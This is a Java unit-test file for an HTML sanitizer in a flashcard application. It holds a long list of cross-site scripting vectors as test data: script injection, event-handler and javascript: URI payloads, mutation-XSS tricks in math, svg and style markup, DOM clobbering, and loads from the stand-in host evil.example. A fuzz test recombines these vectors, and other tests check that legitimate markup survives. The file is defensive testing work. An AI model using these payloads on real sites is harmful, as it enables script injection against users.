package dev.cardstock.formats.markup;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlSanitizerTest {
    private static final Set<String> NEVER = Set.of("script", "iframe", "frame", "object", "embed",
            "applet", "form", "input", "button", "textarea", "select", "meta", "link", "base",
            "svg",
            "style", "title", "template", "noscript", "xmp", "plaintext", "annotation-xml",
            "semantics", "mglyph", "malignmark", "foreignobject", "track", "picture", "portal");

    /** What attackers wrote: each tries to run or to load something. */
    private static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<script/x>alert(1)</script>", "<<script>alert(1);//<</script>",
            "<img src=x onerror=alert(1)>", "<img src=x oNeRrOr=alert(1)//",
            "<img/src=`x`onerror=alert(1)>", "<img src='a.png'\"onerror=alert(1)>",
            "<img src=javascript:alert(1)>", "<img src=\"jav&#x09;ascript:alert(1)\">",
            "<img src=\"https://evil.example/pixel.gif\">", "<img src=//evil.example/a.png>",
            "<img src=\"a.png\" srcset=\"//evil.example/b.png 2x\">",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"..\\..\\a.png\">",
            "<img src=\"%2e%2e%2fsecret.png\">", "<img src=\"../a.png\">", "<img src=\"/a.png\">",
            "<a href=\"javascript:alert(1)\">x</a>", "<a href=\" java\nscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"//evil.example\" target=_blank>x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"x.swf\"></object>", "<embed src=x.swf>", "<applet code=X></applet>",
            "<form action=//evil.example><input name=password><button>go</button></form>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
            "<style>@import '//evil.example/x.css';</style>",
            "<div style=\"background:url(//evil.example/x.png)\">x</div>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"color:red;background-image:url('javascript:alert(1)')\">x</div>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
            "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
            "<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                    + " onerror=alert(1)&gt;\">",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)>"
                    + "</style></annotation-xml></math>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a"
                    + " title=\"</style><img src='#' onerror='alert(1)'>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<textarea></textarea><img src=x onerror=alert(1)>",
            "<title></title><img src=x onerror=alert(1)>",
            "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
            "<template><script>alert(1)</script></template>", "<plaintext><script>alert(1)",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--[if gte IE 4]><script>x</script><![endif]-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><script>x</script>",
            "<video src=x onerror=alert(1)>",
            "<video poster=//evil.example/a.png src=a.mp4></video>",
            "<video><source onerror=\"alert(1)\" src=x></video>",
            "<audio src=//evil.example/a.mp3 autoplay>",
            "<details open ontoggle=alert(1)>x</details>",
            "<p id=location name=cookie>clobber</p>", "<img name=getElementById src=a.png>",
            "<body onload=alert(1)>", "<table background=//evil.example/a.png><td>x</td></table>",
            "<b/onmouseover=alert(1)>x</b>", "<b onmouseover\n=\nalert(1)>x</b>",
            "<p title=\"&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
            "\u0000<scr\u0000ipt>x</scr\u0000ipt>",
            "<select><template><img src=x onerror=alert(1)></template></select>",
            "<a><svg><a><style><img src=\"</style><script>alert(1)</script>\">",
            "<p><math><mi><p><style><!--</style><script>alert(1)</script>-->");

    private static void assertSafe(String html) {
        String clean = HtmlSanitizer.clean(html);
        Document document = Jsoup.parseBodyFragment(clean);
        for (Element element : document.body().getAllElements()) {
            assertThat(NEVER).as(html + " -> " + clean).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as(html + " -> " + clean)
                        .doesNotStartWith("on")
                        .isNotIn("id", "name", "srcdoc", "srcset", "background", "action",
                                "xlink:href",
                                "target", "autoplay");
                if (name.equals("src") || name.equals("poster")) {
                    assertThat(attribute.getValue()).doesNotContain("/", ":", "\\");
                    assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                            .doesNotContain("%2f", "%5c");
                }
                if (name.equals("href")) {
                    assertThat(attribute.getValue()).matches("(?i)(https?://|mailto:).*");
                }
                if (name.equals("style")) {
                    assertThat(attribute.getValue()).doesNotContain("url", "expression",
                            "position");
                }
            }
        }
        document.outputSettings().prettyPrint(false);
        assertThat(document.body().html()).as(html).isEqualTo(clean);
        assertThat(HtmlSanitizer.clean(clean)).isEqualTo(clean);
    }

    @Test
    void nothingThatRunsOrLoadsGetsThrough() {
        VECTORS.forEach(HtmlSanitizerTest::assertSafe);
        VECTORS.forEach(vector -> assertSafe(vector.toUpperCase(Locale.ROOT)));
    }

    @Test
    void neitherDoPiecesOfThemInAnyOrder() {
        long seed = 20261127;
        Random random = new Random(seed);
        List<String> pieces = List.of("<math>", "</math>", "<mtext>", "</mtext>", "<mi>", "<table>",
                "<tr>", "<td>", "</table>", "<svg>", "</svg>", "<style>", "</style>", "<!--", "-->",
                "<p>", "</p>", "<a href=\"https://a.example\">", "</a>", "<b>", "</b>", "<select>",
                "<option>", "<template>", "<ruby>", "<rt>", "<img src=\"a.png\" alt=\"&lt;b&gt;\">",
                "<img src=x onerror=alert(1)>", "<script>", "</script>", "<mglyph>", "\"", "'", ">",
                "<", "&lt;", "&amp;", "text", "<title>", "<form>", "</form>", "<noscript>", "<li>",
                "<annotation-xml encoding=\"text/html\">", "<font color=red>", "<h1>", "\u0000");
        for (int i = 0; i < 4000; i++) {
            StringBuilder html = new StringBuilder();
            int count = 1 + random.nextInt(14);
            for (int j = 0; j < count; j++) {
                html.append(random.nextInt(8) == 0
                        ? VECTORS.get(random.nextInt(VECTORS.size()))
                        : pieces.get(random.nextInt(pieces.size())));
            }
            try {
                assertSafe(html.toString());
            } catch (AssertionError e) {
                throw new AssertionError("seed " + seed + ", round " + i + ": " + e.getMessage(),
                        e);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"<ruby>漢<rt>かん</rt></ruby>",
            "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>",
            "<math display=\"block\"><mfrac><mi>a</mi><mrow><mn>1</mn><mo>+</mo><mi>b</mi></mrow></mfrac></math>",
            "<img src=\"a b.png\" alt=\"a\" width=\"20\">",
            "<audio src=\"a.mp3\" controls=\"\"></audio>",
            "<video src=\"a.mp4\" controls=\"\"></video>", "\\(x &lt; \\frac{1}{2}\\) and \\[y\\]",
            "[sound:a.mp3]", "<span class=\"cloze\" data-ordinal=\"1\">[...]</span>",
            "<b>a</b><br><i style=\"color: #ff0000\">b</i>", "a &amp; b",
            "<a href=\"https://example.org/\" rel=\"noopener noreferrer nofollow\">x</a>",
            "<ul><li>a</li><li>b<ol start=\"3\"><li>c</li></ol></li></ul>"})
    void whatCardsNeedSurvives(String html) {
        assertThat(HtmlSanitizer.clean(html)).isEqualTo(html);
    }

    @Test
    void textStaysWhereMarkupGoes() {
        assertThat(
                HtmlSanitizer.clean("<form>a<button onclick=x>b</button></form><script>c</script>"))
                .isEqualTo("ab");
        assertThat(HtmlSanitizer.clean("<img src=\"https://a.example/x.png\" alt=\"a cat\">"))
                .isEqualTo("a cat");
        assertThat(HtmlSanitizer.clean("<p style=\"color: red; position: fixed\">a</p>"))
                .isEqualTo("<p style=\"color: red\">a</p>");
    }

    @Test
    void everyKindOfContentCanBeShown() {
        assertThat(HtmlSanitizer.display(dev.cardstock.deck.Markup.plain("1 < 2\n<b>")))
                .isEqualTo("1 &lt; 2<br>&lt;b&gt;");
        assertThat(HtmlSanitizer.display(MarkupParser.markdown(
                "**a** <script>x</script> \\(a<b\\) ![cat](cat.png) [x](javascript:y)")))
                .isEqualTo("<p><strong>a</strong>  \\(a&lt;b\\) <img src=\"cat.png\" alt=\"cat\">"
                        + " <a>x</a></p>");
    }

    @Test
    void deepAndLongMarkupIsNoDanger() {
        assertSafe("<div>".repeat(20_000) + "a");
        assertSafe("<b><i>".repeat(3_000) + "a");
        assertSafe("<math><mrow>".repeat(5_000) + "a");
    }
}
